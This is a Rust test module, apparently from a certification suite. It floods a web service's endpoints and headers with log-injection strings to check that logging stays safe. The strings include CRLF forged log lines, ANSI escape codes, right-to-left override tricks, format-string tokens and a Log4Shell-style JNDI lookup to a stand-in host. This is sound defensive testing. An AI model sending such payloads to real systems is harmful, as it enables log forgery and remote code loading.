//! Requests that would like to be log lines.

use std::fmt::Write as _;

use reqwest::Method;
use serde_json::json;
use smv_cert_tests::{Caller, report, send};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

/// In everything hostile that is sent.
pub(super) const CANARY: &str = "kanariefugl";
/// Hostile readings, in pipelines of so many.
pub(super) const READINGS: usize = 4_800;
const PIPELINE: usize = 40;

/// Things that would be a line of their own, colour a terminal, or turn letters around.
fn hostile(number: usize) -> String {
    let words = [
        "\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
        "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
        "\u{202e}gpj.exe\u{2066}",
        "\u{0}\u{8}\u{7f}\u{85}\u{2028}",
        "${jndi:ldap://x.example/a} {} %s %n",
        "\",\"level\":\"ERROR\",\"x\":\"",
    ];
    format!("{CANARY}{}{number}", words[number % words.len()])
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut encoded, byte| {
        let _ = write!(encoded, "%{byte:02X}");
        encoded
    })
}

/// A reading with hostile words in path, query and headers.
fn reading(number: usize, host: &str) -> String {
    let word = percent(&hostile(number));
    let path = match number % 4 {
        0 => format!("/{word}"),
        1 => format!("/api/v1/reports/{word}"),
        2 => format!("/api/v1/cases?q={word}&{word}={word}"),
        _ => format!("/da/{word}?{word}"),
    };
    format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {word}\r\nReferer: {word}\r\nX-Request-Id: {CANARY}\r\n\
         X-Forwarded-For: {CANARY}, \"}}\r\nAuthorization: Bearer {word}\r\nAccept-Language: {word}\r\n\r\n"
    )
}

pub(super) async fn read_hostile_things(url: &str) {
    let host = url.trim_start_matches("http://");
    for first in (0..READINGS).step_by(PIPELINE) {
        let mut stream = tokio::net::TcpStream::connect(host).await.unwrap();
        let requests: String = (first..first + PIPELINE)
            .map(|number| reading(number, host))
            .collect();
        stream.write_all(requests.as_bytes()).await.unwrap();
        let (mut said, mut buffer) = (String::new(), vec![0; 16_384]);
        while said.matches("HTTP/1.1 ").count() < PIPELINE {
            let read = stream.read(&mut buffer).await.unwrap();
            assert_ne!(read, 0, "closed after {said}");
            said.push_str(&String::from_utf8_lossy(&buffer[..read]));
        }
    }
}

/// Writings with hostile words in every place; how many.
pub(super) async fn write_hostile_things(url: &str) -> usize {
    let anyone = Caller::new(url);
    let count = 60;
    for number in 0..count {
        let word = hostile(number);
        let (path, body) = match number % 3 {
            0 => (
                "/api/v1/auth/login",
                json!({"email": word, "password": word}),
            ),
            1 => {
                let mut body = report::bakery();
                body["description"] = json!(format!("{word} {word}"));
                body["reporter"]["name"] = json!(word);
                body[&word] = json!(word);
                ("/api/v1/reports", body)
            }
            _ => ("/api/v1/auth/refresh", json!({"refresh_token": word})),
        };
        let request = anyone
            .request(Method::POST, path)
            .header("Idempotency-Key", format!("{CANARY}-0123456789-{number}"));
        let _ = send(request.json(&body)).await;
    }
    count
}
